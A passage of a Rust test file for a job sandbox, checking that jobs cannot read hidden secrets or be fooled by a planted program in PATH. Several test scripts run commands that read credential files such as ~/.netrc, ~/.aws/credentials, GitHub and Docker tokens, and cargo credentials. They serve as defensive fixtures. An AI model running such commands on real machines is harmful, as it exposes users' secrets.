             cat ~/notes.txt ~/.cargo/credentials.toml 2>/dev/null; echo made > made.txt && cat made.txt",
        );
        j.cwd = ws.clone();
        let out = match (&sb.sandbox, sb.warm) {
            (_, false) => {
                run(&sb.sandbox, &j, &scope, &Limits::default(), &Arc::new(AtomicBool::new(false)))
                    .unwrap()
            }
            (_, true) => {
                let pool =
                    WarmPool::start(&sb.sandbox, agent_host_bin(), &scope, &Limits::default())
                        .unwrap();
                assert!(pool.wait_ready(Duration::from_secs(20)));
                pool.run(&j, &Arc::new(AtomicBool::new(false))).unwrap()
            }
        };
        let text = String::from_utf8_lossy(&out.output);
        for shown in [
            "hello from the home",
            "name = Someone",
            "# cargo settings",
            "shown by settings",
            "made",
        ] {
            assert!(text.contains(shown), "{sb:?}: {shown} missing: {text}");
        }
        assert!(!text.contains("PRIVATE NOTES") && !text.contains("CARGO TOKEN"), "{sb:?}: {text}");
        assert_eq!(std::fs::read_to_string(ws.join("made.txt")).unwrap(), "made\n");
        std::fs::remove_file(ws.join("made.txt")).unwrap();
    }
}

/// A directory of `PATH` that a job can write (a virtualenv in the workspace, say) is left out
/// of jobs' `PATH`: a program one job leaves there must not run for the next under the name of
/// a program policy knows.
#[test]
fn path_leaves_out_what_jobs_can_write() {
    for sb in sandboxes() {
        let mut s = setup();
        let venv = s.root.join(".venv/bin");
        std::fs::create_dir_all(&venv).unwrap();
        let fake = venv.join("cat");
        std::fs::write(&fake, "#!/bin/sh\necho FAKE CAT\n").unwrap();
        let mut mode = std::fs::metadata(&fake).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut mode, 0o755);
        std::fs::set_permissions(&fake, mode).unwrap();
        s.scope.user.path = format!("{}:/usr/bin:/bin", venv.display());
        let out = exec(&sb, &s, &job(&s, "echo real | cat; echo \"$PATH\""));
        let text = String::from_utf8_lossy(&out.output);
        assert!(text.starts_with("real\n") && !text.contains("FAKE"), "{sb:?}: {text}");
        assert!(text.contains("\n/usr/bin:/bin\n"), "{sb:?}: {text}");
    }
}

/// A sandbox started ahead is not used once a secret it hid was replaced on the machine (a
/// mount sits on what the name led to when it was made; a rename takes the name past it).
#[test]
fn a_sandbox_started_ahead_is_not_used_once_a_secret_was_replaced() {
    let s = setup();
    std::fs::write(s.home.join(".netrc"), "OLD PASSWORD").unwrap();
    let Some(pool) = ready_pool(&s) else { return };
    // Replaced as editors and `npm login` do: a new file renamed over the old.
    std::fs::write(s.home.join(".netrc.new"), "NEW PASSWORD").unwrap();
    std::fs::rename(s.home.join(".netrc.new"), s.home.join(".netrc")).unwrap();
    let out =
        pool.run(&job(&s, "cat ~/.netrc; echo done"), &Arc::new(AtomicBool::new(false))).unwrap();
    let text = String::from_utf8_lossy(&out.output);
    assert!(!text.contains("PASSWORD") && text.contains("done"), "{text}");
    assert_eq!(pool.warm_runs(), 0, "the sandbox started before the replacement was used");
}

/// A secret inside the workspace (a settings' place): bubblewrap hides it by its mount, and
/// what the job makes beside it reads as usual; Landlock, whose rule for the writable
/// workspace would grant it, refuses to run anything rather than show it.
#[test]
fn a_secret_inside_the_workspace_is_hidden_and_the_workspace_works() {
    for sb in sandboxes() {
        let probe = setup();
        let secret = probe.root.join(".secrets");
        let settings =
            SandboxSettings { hide: vec![secret.display().to_string()], ..Default::default() };
        let mut s = setup_with(&settings);
        s.scope.roots = vec![probe.root.clone()];
        std::fs::create_dir_all(&secret).unwrap();
        std::fs::write(secret.join("key"), "WORKSPACE SECRET").unwrap();
        let mut j = job(
            &s,
            "echo made > made.txt && cat made.txt; ls >/dev/null && echo listed; \
                             cat .secrets/key; echo ran",
        );
        j.cwd = probe.root.clone();
        let out = exec(&sb, &s, &j);
        let text = String::from_utf8_lossy(&out.output);
        assert!(!text.contains("WORKSPACE SECRET"), "{sb:?}: {text}");
        match sb.sandbox {
            Sandbox::Landlock(_) => assert!(text.contains("cannot keep hidden"), "{sb:?}: {text}"),
            _ => assert!(text.contains("made\nlisted\n") && text.contains("ran"), "{sb:?}: {text}"),
        }
    }
}

/// An agent socket in the machine's /tmp (`ssh-agent`'s `SSH_AUTH_SOCK`) is hidden by the
/// private /tmp alone: the job's own files in /tmp stay readable.
#[test]
fn a_secret_in_the_machines_tmp_leaves_the_jobs_tmp_working() {
    let sock_dir = tempfile::Builder::new().prefix("ssh-test-").tempdir_in("/tmp").unwrap();
    let sock = sock_dir.path().join("agent.1");
    std::fs::write(&sock, "not a socket").unwrap();
    for sb in sandboxes().into_iter().filter(|s| matches!(s.sandbox, Sandbox::Bubblewrap(_))) {
        let mut s = setup();
        // (No home: the test's homes lie in /tmp themselves, which would bring the layer there.)
        let vars = [("SSH_AUTH_SOCK".to_string(), sock.display().to_string())];
        s.scope.user = UserEnv::new(vars, &SandboxSettings::default(), None);
        let script = format!(
            "echo x > /tmp/foo && cat /tmp/foo && mkdir /tmp/d && echo y > /tmp/d/f && cat /tmp/d/f; \
             cat '{}' 2>/dev/null; echo done",
            sock.display()
        );
        let out = exec(&sb, &s, &job(&s, &script));
        let text = String::from_utf8_lossy(&out.output);
        assert!(text.starts_with("x\ny\n") && !text.contains("not a socket"), "{sb:?}: {text}");
    }
}

/// A hidden place inside the workspace: bubblewrap hides it; Landlock, whose rule for the
/// writable workspace would grant it, refuses to run anything rather than show it.
#[test]
fn a_hidden_place_inside_a_writable_one_stays_hidden_or_nothing_runs() {
    for sb in sandboxes() {
        let mut s = setup();
        let inside = s.root.join("state-in-the-workspace");
        std::fs::create_dir_all(&inside).unwrap();
        std::fs::write(inside.join("host.key"), "INSIDE KEY").unwrap();
        s.scope.hidden.push(inside.clone());
        let out = exec(&sb, &s, &job(&s, "cat state-in-the-workspace/host.key; echo ran"));
        let text = String::from_utf8_lossy(&out.output);
        assert!(!text.contains("INSIDE KEY"), "{sb:?}: {text}");
        match sb.sandbox {
            Sandbox::Landlock(_) => assert!(text.contains("cannot keep hidden"), "{sb:?}: {text}"),
            _ => assert!(text.contains("ran"), "{sb:?}: {text}"),
        }
    }
}

/// While a job runs, a secret replaced on the machine (which takes its name past the mount that
/// hid it) and a secret made meanwhile stay unreadable: Landlock keeps them so inside
/// bubblewrap, by what they are rather than by the mounts on their names.
#[test]
fn secrets_replaced_or_made_while_a_job_runs_stay_unreadable() {
    let runners = sandboxes();
    for sb in runners.iter().filter(|s| matches!(s.sandbox, Sandbox::Bubblewrap(_))) {
        let s = setup();
        std::fs::write(s.home.join(".netrc"), "OLD PASSWORD").unwrap();
        std::fs::write(s.home.join("notes.txt"), "notes").unwrap();
        // Directories that exist, and secrets in them that do not yet.
        std::fs::create_dir_all(s.home.join(".config")).unwrap();
        std::fs::create_dir_all(s.home.join(".docker")).unwrap();
        let home = s.home.clone();
        let changer = std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(700));
            std::fs::write(home.join(".netrc.new"), "NEW PASSWORD").unwrap();
            std::fs::rename(home.join(".netrc.new"), home.join(".netrc")).unwrap();
            std::fs::create_dir_all(home.join(".aws")).unwrap();
            std::fs::write(home.join(".aws/credentials"), "NEW AWS KEY").unwrap();
            std::fs::create_dir_all(home.join(".config/gh")).unwrap();
            std::fs::write(home.join(".config/gh/hosts.yml"), "NEW GH TOKEN").unwrap();
            std::fs::write(home.join(".docker/config.json"), "NEW DOCKER AUTH").unwrap();
        });
        let script = "sleep 2; cat ~/.netrc ~/.aws/credentials ~/.config/gh/hosts.yml \
                      ~/.docker/config.json; cat ~/notes.txt; echo; echo done";
        let out = exec(sb, &s, &job(&s, script));
        changer.join().unwrap();
        let text = String::from_utf8_lossy(&out.output);
        for secret in ["PASSWORD", "AWS KEY", "GH TOKEN", "DOCKER AUTH"] {
            assert!(!text.contains(secret), "{sb:?}: {secret}: {text}");
        }
        assert!(text.contains("notes\ndone"), "{sb:?}: the rest of the home reads: {text}");
    }
}

/// The host's directories named through a link (a home reached through `/home -> /var/home`)
/// are hidden all the same, and jobs run.
#[test]
fn the_hosts_state_named_through_a_link_is_hidden() {
    for sb in sandboxes() {
        let mut s = setup();
        let link = s.outside.join("state-link");
        std::os::unix::fs::symlink(&s.hidden, &link).unwrap();
        s.scope.hidden = vec![link.clone()];
        let key = link.join("host.key");
        let out = exec(&sb, &s, &job(&s, &format!("cat '{}'; echo ran", key.display())));
        let text = String::from_utf8_lossy(&out.output);
        assert!(!text.contains("PRIVATE KEY") && text.contains("ran"), "{sb:?}: {text}");
    }
}
